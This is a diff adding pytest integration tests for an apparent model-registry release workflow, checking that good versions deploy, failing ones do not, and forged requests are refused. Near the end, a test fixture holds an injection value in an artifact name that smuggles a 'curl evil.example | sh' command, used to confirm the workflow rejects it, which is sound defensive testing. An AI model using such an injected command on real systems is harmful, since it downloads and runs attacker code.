@@ -1,0 +1,101 @@
+"""`registry.yaml` under act: from a tag to a comment, and the ways in which the chain is to break.
+
+Each thing that a verification can find is tried in tests/release; here is what workflow, jobs and rights make of it.
+"""
+
+from typing import Any
+
+import pytest
+from act import needs_act
+from act_log import Outcome
+from github_api import GitHubServer
+from github_records import Pull
+from registry_world import RegistryWorld
+
+from repository import write_params
+
+pytestmark = [needs_act, pytest.mark.slow]
+
+BUDGETS = [
+    {"name": "model_bytes", "limit": 100, "level": "required"},
+    {"name": "latency_p95_ms", "limit": 0.000001, "level": "required"},
+]
+
+
+@pytest.fixture(scope="module")
+def world(shared_server: GitHubServer, tmp_path_factory: pytest.TempPathFactory) -> RegistryWorld:
+    world = RegistryWorld.create(shared_server, tmp_path_factory.mktemp("world"))
+    world.merge("1", range(6))
+    return world
+
+
+@pytest.fixture(scope="module")
+def good(world: RegistryWorld) -> tuple[Pull, Outcome]:
+    """A better model, registered on a desk; its tag is pushed."""
+    pull = world.merge("2", range(2))
+    return pull, world.push_tag(world.works.register("v1.0.0"))
+
+
+@pytest.fixture(scope="module")
+def bad(world: RegistryWorld, good: tuple[Pull, Outcome]) -> tuple[Pull, Outcome]:
+    """A worse, large and slow model that answers otherwise than recorded; plain GTO puts it into production."""
+    assert good[1].is_success
+    write_params(world.works.root, gate__budgets=BUDGETS, gate__data="advisory", prepare__size=4, prepare__channels=1)
+    pull = world.merge("3", range(20), says=range(30))
+    world.works.register("v1.1.0")
+    tag = "classifier#production#2"
+    world.works.git("tag", "-a", tag, "-m", "Assigning stage production to artifact classifier version v1.1.0")
+    world.works.git("push", "-q", "origin", f"refs/tags/{tag}")
+    return pull, world.push_tag(tag)
+
+
+def results(outcome: Outcome) -> dict[str, str]:
+    """Return how each job ended; one that was skipped is not there."""
+    return {job.id: job.result for job in outcome.jobs}
+
+
+def test_a_version_is_verified_looks_once_is_promoted_and_deployed(
+    world: RegistryWorld, good: tuple[Pull, Outcome]
+) -> None:
+    outcome = good[1]
+    assert outcome.is_success, outcome.log
+    chain = ("request", "verify", "vault", "approve", "promote", "release", "tell")
+    assert results(outcome) == dict.fromkeys(chain, "success")
+    assert "deploying classifier@v1.0.0 to staging" in outcome.job("release").log
+    assert world.tags() == ["classifier#staging#1", "classifier@v1.0.0", *world.tags()[2:]]
+    assert world.in_stage("staging") == "v1.0.0"
+    assert "refs/winnow/vault/classifier@v1.0.0" in world.works.git("ls-remote", "origin")
+
+
+def test_the_pull_request_that_brought_it_is_told_once(world: RegistryWorld, good: tuple[Pull, Outcome]) -> None:
+    [comment] = world.comments(good[0])
+    assert comment.startswith("### 🚀 Release of classifier@v1.0.0 to staging: it serves")
+    for told in ("verified: 11 checks", "promoted to staging", "deployed to staging", "nobody had looked at"):
+        assert told in comment
+    assert "nothing speaks against it" in good[1].job("verify").summary
+
+
+def test_an_assignment_of_a_model_that_fails_deploys_nothing(world: RegistryWorld, bad: tuple[Pull, Outcome]) -> None:
+    assert results(bad[1]) == {"request": "success", "verify": "failure", "tell": "success"}
+    [comment] = world.comments(bad[0])
+    assert comment.startswith("### ❌ Release of classifier@v1.1.0 to production: nothing was deployed")
+    for told in ("does not answer as recorded", "the limit is 100", "latency", "primary", "what served before"):
+        assert told in comment, told
+    assert "refs/winnow/vault/classifier@v1.1.0" not in world.works.git("ls-remote", "origin"), "it never saw the vault"
+    assert len(world.comments(bad[0])) == 1
+
+
+FORGED: dict[str, dict[str, Any]] = {
+    "a program": {"artifact_collection_name": 'classifier"; curl evil.example | sh; "', "version": "v1.0.0"},
+}
+
+
+@pytest.mark.parametrize("kind", FORGED)
+def test_a_forged_payload_ends_in_the_first_job(world: RegistryWorld, good: tuple[Pull, Outcome], kind: str) -> None:
+    before = world.tags()
+    outcome = world.call(**FORGED[kind])
+    assert results(outcome) == {"request": "failure"}
+    assert "The request was refused" in outcome.summary
+    assert "evil.example" not in outcome.job("request").step("read").outputs.values()
+    assert world.tags() == before
+    assert good[1].is_success
